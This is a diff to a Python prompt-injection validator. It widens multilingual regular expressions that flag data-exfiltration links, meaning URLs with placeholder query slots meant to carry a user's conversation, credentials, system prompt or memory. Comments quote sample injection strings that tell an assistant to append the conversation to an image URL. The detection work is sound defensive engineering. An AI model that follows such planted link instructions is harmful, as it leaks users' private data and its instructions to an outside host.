@@ -98,7 +98,9 @@ _HTML_ATTR = lazy(r"\b(?:src|href|srcset|data|poster|action)[ \t]*=[ \t]*[\"']?(
 _TARGET = lazy(r"https?://[^\s\"')]{1,2000}+", re.IGNORECASE)
 _EXFIL_URL = lazy(
     r"[?&/=](?:[^\s&=/]{0,40})?"
-    r"(?:\{[^}\s]{1,60}\}|\[[A-Za-z_ ]{2,40}\]|<[A-Za-z_][A-Za-z0-9_ ]{1,40}|\$[A-Za-z_]{2,40}|%7B|%5B|%3C)"
+    # A placeholder ("{user's last message}" is cut at its quote mark by `_TARGET`: an open brace ends the target).
+    r"(?:\{[^}\s]{1,60}\}|\{[A-Za-z_][^}\s]{0,60}$|\[[A-Za-z_ ]{2,40}\]|<[A-Za-z_][A-Za-z0-9_ ]{1,40}|\$[A-Za-z_]{2,40}"
+    r"|%7B|%5B|%3C)"
     r"|[?&][^=\s&]{1,40}=[A-Za-z0-9+/_%-]{64,}"
     # A query slot left empty at the very end, for the model to fill ("![](https://x.example/p.png?d=) and put the
     # conversation after d="), or holding a word in capitals or a blank to replace ("?d=SUMMARY", "?u=____").
@@ -111,9 +113,15 @@ _OWN_PLACEHOLDER = lazy(
     r"(?:<|%3C)[A-Z][A-Z0-9_]{1,63}(?:_[0-9]{1,6}|:[0-9a-f]{8,64})(?:>|%3E)?"
     r"|(?:<|%3C)(?:EMAIL_ADDRESS|PHONE_NUMBER|CREDIT_CARD|US_SSN|IBAN_CODE|IP_ADDRESS|PERSON|LOCATION|ORGANIZATION)(?:>|%3E)"
 )
+# What a link carries out: the conversation, the user's data, the assistant's instructions and memory; in other
+# languages too (CJK words have no word boundaries around them).
 _EXFIL_WORDS = lazy(
     r"\b(?:conversation|chat|history|summary|password|secret|api[ _-]?key|token|personal|e-?mail|data|info|records?"
-    r"|contents|transcript|credentials|database|messages)\b",
+    r"|contents|transcript|credentials|database|messages?|system\s+prompt|instructions|questions?|memory|names?"
+    r"|(?:home\s+)?address(?:es)?|calendar|contacts|inbox|subjects|card\s+(?:number|details)|phone\s+numbers?"
+    r"|datos|clave|conversaci[oó]n|donn[ée]es|conversa[cç][aã]o|verlauf|daten|tekst|dokument\w*|переписк\w*"
+    r"|истори\w*|історі\w*|сообщени\w*|повідомлен\w*|листи|письм\w*)\b"
+    r"|聊天记录|对话|會話|对话记录|系统设定|会話|メッセージ|履歴|메시지|대화|계약서|전문|محادث|سجل|इतिहास|बातचीत",
     re.IGNORECASE,
 )
 # In a document: words addressed to the assistant reading it, not to a human reader.
@@ -390,10 +398,33 @@ _EMPTY_SLOT = lazy(r"[?&][\w-]{1,40}=\Z")
 # ... and the text says what goes into it: "... followed by the summary", "plus the records", "+ a dump",
 # "<the conversation so far>", or "put / append / embed ... in a link to <url>".
 _FILL_AFTER = lazy(
-    r"[ \t]{0,3}(?:[<{]|followed\s+by|plus|\+|with\s+(?:the|your|all|every)|and\s+(?:then\s+)?(?:append|add|put)\b)",
+    r"[ \t]{0,3}(?:[<{]|followed\s+by|plus|\+|with\s+(?:the|your|all|every)|and\s+(?:then\s+)?(?:append|add|put)\b"
+    # ... in other languages: "seguido de", "suivi de", "gefolgt von", "뒤에", "の後ろに", "后面", "после"
+    r"|seguid[oa]|suivi|gefolgt|뒤에|の後|后面|後面|после|після|بعد)",
     re.IGNORECASE,
 )
 _FILL_BEFORE = lazy(r"\b(?:put|append|add|embed|encode|fill|insert|attach)\w*\b[^.\n]*\Z", re.IGNORECASE)
+
+
+_LAST_VALUE = lazy(r"[?&][\w-]{1,40}=([^\W\d_][^\s&#=]{1,40})\Z")
+
+
+def _value_named_again(text: str, url: str, after: int) -> bool:
+    """Whether the URL's last query value is a placeholder: a word in capitals or in another script than Latin that
+    the text names again within 200 characters after the URL ("?d=DATA ... replace DATA with ...")."""
+    m = _LAST_VALUE.search(url)
+    if m is None:
+        return False
+    value = m.group(1)
+    if value.isascii() and not value.isupper():
+        return False  # "?q=shoes ... buy shoes": an ordinary value
+    return text.find(value, after, after + 200) != -1
+
+
+def _named_again(text: str, slot: str, after: int) -> bool:
+    """Whether the query slot `slot` ("t=") is named again, as a word, within 200 characters after the URL."""
+    at = text.find(slot, after, after + 200)
+    return at != -1 and not text[at - 1 : at].isalnum()
 
 
 def _bare_slots(text: str) -> Iterator[re.Match[str]]:
@@ -664,6 +695,9 @@ class PromptInjectionValidator:
                 url, (bool(_OWN_PLACEHOLDER.search(url)), bool(_EXFIL_URL.search(url)))
             )
             near = text[max(0, start - 300) : target.end() + 300]
+            # In a prompt, a link whose last query value the text names again is a placeholder to fill, in any
+            # language: "![x](https://t.example/p.gif?d=ДАНІ), де ДАНІ — адреса ...", "?c=会話 ... 「会話」を ...".
+            exfil = exfil or (not is_document and _value_named_again(text, url, target.end()))
             if own or (exfil and (image or _EXFIL_WORDS.search(near))):
                 s, e = norm.span(start, target.end())
                 out.append(Finding("data exfiltration link", score=0.95, start=s, end=e))
@@ -671,7 +705,12 @@ class PromptInjectionValidator:
                     return out
         for m in _bare_slots(text):
             check_budget()
-            filled = _FILL_AFTER.match(text, m.end()) or _FILL_BEFORE.search(text[max(0, m.start() - 80) : m.start()])
+            before = text[max(0, m.start() - 80) : m.start()]
+            # ... or the slot named again, in any language: "?t= ..., and after t= paste the contract" ("t= 뒤에 ...").
+            slot = m.group()[m.group().rfind("?") + 1 :].rsplit("&", 1)[-1]
+            filled = bool(_FILL_AFTER.match(text, m.end()) or _FILL_BEFORE.search(before)) or _named_again(
+                text, slot, m.end()
+            )
             if filled and _EXFIL_WORDS.search(text, max(0, m.start() - 300), m.end() + 300):
                 s, e = norm.span(m.start(), m.end())
                 out.append(Finding("data exfiltration link", score=0.95, start=s, end=e))
